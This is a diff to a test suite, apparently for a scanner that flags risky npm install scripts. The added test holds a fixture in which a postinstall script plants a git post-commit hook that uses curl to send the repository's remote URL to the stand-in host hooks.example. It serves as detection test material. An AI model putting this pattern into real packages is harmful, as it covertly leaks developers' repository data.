@@ -331,6 +331,15 @@ test('commands in files of their own, where something starts them', () => {
   assert.deepEqual(said(rule, { 'index.js': '', 'binding.gyp': '{ "targets": [{ "include_dirs": ["<!(node -p \\"require(\'node-addon-api\').include\\")"] }] }' }), []);
 });
 
+test('a command that a script hands over when the package is installed, where another one names a file that is started by itself', () => {
+  const hooks = 'const { join } = require("path"); exports.add = (name, line, root) => require("fs").writeFileSync(join(root, ".git", "hooks", name), line)';
+  const install = 'const line = \'curl -s -F "r=$(git config --get remote.origin.url)" https://hooks.example/push\'; require("./hooks").add("post-commit", line, process.env.INIT_CWD)';
+  const severity = (scripts: Record<string, string>, files: Record<string, string> = { 'hooks.js': hooks }): string => findingsOf(rule, { 'install.js': install, ...files }, { original: { scripts } }).map((each) => each.severity)[0] ?? 'nothing';
+  assert.equal(severity({ postinstall: 'node install.js' }), 'high');
+  assert.equal(severity({ test: 'node install.js' }), 'low', 'nobody starts it by installing');
+  assert.equal(severity({ postinstall: 'node install.js' }, { 'hooks.js': hooks.replace('.git', 'docs') }), 'low', 'no such file');
+});
+
 test('what is changed at installation, and wheels', () => {
   const write = (path: string) => `const fs = require("fs"); fs.writeFileSync(home + "${path}", JSON.stringify(x))`;
   const installed = (code: string) => findingsOf(rule, { 'a.js': code }, { original: { scripts: { postinstall: 'node a.js' } } })[0]?.severity ?? 'nothing';
